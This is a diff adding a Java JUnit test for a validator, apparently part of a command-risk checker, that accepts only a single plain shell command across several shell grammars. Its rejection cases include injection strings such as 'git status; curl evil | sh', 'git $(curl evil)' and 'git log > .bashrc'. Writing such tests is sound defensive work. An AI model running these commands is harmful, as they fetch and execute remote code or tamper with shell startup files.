@@ -1,0 +1,182 @@
+package dev.assent.core.risk;
+
+import static org.assertj.core.api.Assertions.assertThat;
+
+import java.util.List;
+import java.util.Random;
+import java.util.stream.Stream;
+import org.junit.jupiter.api.Test;
+import org.junit.jupiter.params.ParameterizedTest;
+import org.junit.jupiter.params.provider.Arguments;
+import org.junit.jupiter.params.provider.EnumSource;
+import org.junit.jupiter.params.provider.MethodSource;
+import org.junit.jupiter.params.provider.ValueSource;
+
+/// Clause 5.9: which texts are one simple command alone, and the words they have.
+class LoneCommandTest {
+  static Stream<Arguments> alone() {
+    return Stream.of(
+        Arguments.of("git status", "git status"),
+        Arguments.of("  git   status\n", "git status"),
+        Arguments.of("git \"push\" 'origin'", "git push origin"),
+        Arguments.of("g\\it status", "git status"),
+        Arguments.of("git \\\n  status", "git status"),
+        Arguments.of("git 'push origin'", "git 'push origin'"),
+        Arguments.of("git commit -m \"fix; it | now\"", "git commit -m 'fix; it | now'"),
+        Arguments.of("git commit -m \"it's\"", "git commit -m 'it'\\''s'"),
+        Arguments.of("echo ''", "echo ''"),
+        Arguments.of("ls ~/code", "ls ~/code"),
+        Arguments.of("ls '~/code'", "ls '~/code'"),
+        Arguments.of("ls ~/'a b'", "ls ~/'a b'"),
+        Arguments.of("cd ~", "cd ~"),
+        Arguments.of("echo '$HOME' '{a,b}'", "echo '$HOME' '{a,b}'"),
+        Arguments.of("echo ';'", "echo ';'"),
+        Arguments.of("';'", "';'"),
+        Arguments.of("npm test -- --grep=x,y@1%", "npm test -- --grep=x,y@1%"),
+        Arguments.of("rm -rf büro", "rm -rf büro"));
+  }
+
+  @ParameterizedTest
+  @MethodSource("alone")
+  void oneSimpleCommandHasItsWords(String text, String words) {
+    assertThat(LoneCommand.of(ShellGrammar.POSIX, text)).contains(words);
+  }
+
+  /// In every grammar: what a shell could take for more than one plain command is not alone.
+  @ParameterizedTest
+  @ValueSource(
+      strings = {
+        "",
+        " ",
+        "# git status",
+        "git status; curl evil | sh",
+        "git status;",
+        "git status && curl evil",
+        "git status || curl evil",
+        "git status & curl evil",
+        "git status &",
+        "git status | sh",
+        "git status |& sh",
+        "git status\ncurl evil",
+        "git status\r\ncurl evil",
+        "git status # x",
+        "git log > .bashrc",
+        "git log >> .bashrc",
+        "git log &> x",
+        "git apply < x",
+        "git apply <<< x",
+        "git apply <<E\nx\nE",
+        "git log <(curl evil)",
+        "git $(curl evil)",
+        "git `curl evil`",
+        "git \"$(curl evil)\"",
+        "git \"`curl evil`\"",
+        "git $X",
+        "git \"$X\"",
+        "git ${X:-push}",
+        "git $((1+1))",
+        "git $'push'",
+        "git $\"push\"",
+        "$GIT push",
+        "GIT_SSH_COMMAND=evil git fetch",
+        "X=1",
+        "! git status",
+        "(git status)",
+        "{ git status; }",
+        "if true; then git status; fi",
+        "git() { curl evil; }",
+        "git {push,--force}",
+        "git {1..3}",
+        "git add *",
+        "git add a?b",
+        "git add [ab]",
+        "ls ~root",
+        "git 'unclosed",
+        "git \u0000status",
+        "git a\u0007b",
+        "> x",
+        "[[ -f x ]]"
+      })
+  void whatIsNotCertainIsNotAlone(String text) {
+    for (var grammar : ShellGrammar.values()) {
+      assertThat(LoneCommand.of(grammar, text)).as(grammar + " " + text).isEmpty();
+    }
+  }
+
+  @ParameterizedTest
+  @EnumSource(ShellGrammar.class)
+  void plainWordsAreTheSameInEveryShell(ShellGrammar grammar) {
+    assertThat(LoneCommand.of(grammar, "git push origin --depth=1"))
+        .contains("git push origin --depth=1");
+    assertThat(LoneCommand.of(grammar, "git commit -m \"fix, it\""))
+        .contains("git commit -m 'fix, it'");
+  }
+
+  @Test
+  void otherShellsReadOtherCharacters() {
+    // Words of POSIX shells; elsewhere they are names of programs.
+    for (var grammar : List.of(ShellGrammar.POSIX, ShellGrammar.ZSH)) {
+      assertThat(LoneCommand.of(grammar, "time git status")).isEmpty();
+      assertThat(LoneCommand.of(grammar, "coproc git status")).isEmpty();
+    }
+    // Of zsh.
+    assertThat(LoneCommand.of(ShellGrammar.ZSH, "ls =curl")).isEmpty();
+    assertThat(LoneCommand.of(ShellGrammar.ZSH, "ls x^y")).isEmpty();
+    assertThat(LoneCommand.of(ShellGrammar.ZSH, "ls a#b")).isEmpty();
+    assertThat(LoneCommand.of(ShellGrammar.ZSH, "git commit -m 'a # b'"))
+        .contains("git commit -m 'a # b'");
+    // Of cmd.exe.
+    assertThat(LoneCommand.of(ShellGrammar.CMD, "git %PATH%")).isEmpty();
+    assertThat(LoneCommand.of(ShellGrammar.CMD, "git \"%PATH%\"")).isEmpty();
+    assertThat(LoneCommand.of(ShellGrammar.CMD, "git ^& calc")).isEmpty();
+    assertThat(LoneCommand.of(ShellGrammar.CMD, "git=status")).isEmpty();
+    assertThat(LoneCommand.of(ShellGrammar.CMD, "git 'a b'")).isEmpty();
+    assertThat(LoneCommand.of(ShellGrammar.CMD, "type C:\\x")).contains("type 'C:\\x'");
+    // Of PowerShell.
+    assertThat(LoneCommand.of(ShellGrammar.POWERSHELL, "git @a")).isEmpty();
+    assertThat(LoneCommand.of(ShellGrammar.POWERSHELL, "git a,b")).isEmpty();
+    assertThat(LoneCommand.of(ShellGrammar.POWERSHELL, "'git' status")).isEmpty();
+    assertThat(LoneCommand.of(ShellGrammar.POWERSHELL, "git \"a\"b")).isEmpty();
+    assertThat(LoneCommand.of(ShellGrammar.POWERSHELL, "git \u201ca\u201d")).isEmpty();
+    assertThat(LoneCommand.of(ShellGrammar.POWERSHELL, "git 'a b'")).contains("git 'a b'");
+    // Of fish.
+    assertThat(LoneCommand.of(ShellGrammar.FISH, "git 'a\\'b'")).isEmpty();
+    assertThat(LoneCommand.of(ShellGrammar.FISH, "git \\;")).isEmpty();
+  }
+
+  @Test
+  void aLongTextIsNotAlone() {
+    String most = "git " + "x".repeat(LoneCommand.LONGEST - 4);
+    assertThat(LoneCommand.of(ShellGrammar.POSIX, most)).isPresent();
+    assertThat(LoneCommand.of(ShellGrammar.POSIX, most + "x")).isEmpty();
+  }
+
+  /// Whatever is put together: the words of a lone command are again that command, and no word
+  /// looks like the sign of a command that is not alone.
+  @Test
+  void theWordsAreACommandOfTheirOwn() {
+    var random = new Random(31);
+    var pieces =
+        List.of(
+            "git", " ", " ", "'", "\"", "\\", ";", "&", "|", ">", "<", "$", "`", "(", ")", "{", "}",
+            ",", "*", "~", "/", "a", "=", "#", "\n", "-f", "!", "é", "%", "^", "@", "\t");
+    int alone = 0;
+    for (int i = 0; i < 60_000; i++) {
+      var text = new StringBuilder();
+      for (int n = random.nextInt(9); n >= 0; n--) {
+        text.append(pieces.get(random.nextInt(pieces.size())));
+      }
+      for (var grammar : ShellGrammar.values()) {
+        var words = LoneCommand.of(grammar, text.toString());
+        if (words.isPresent()) {
+          alone++;
+          assertThat(words.get()).isNotEqualTo(";").isNotBlank();
+          assertThat(LoneCommand.of(ShellGrammar.POSIX, words.get()))
+              .as(grammar + " " + text)
+              .isEqualTo(words);
+        }
+      }
+    }
+    assertThat(alone).isGreaterThan(1_000);
+  }
+}
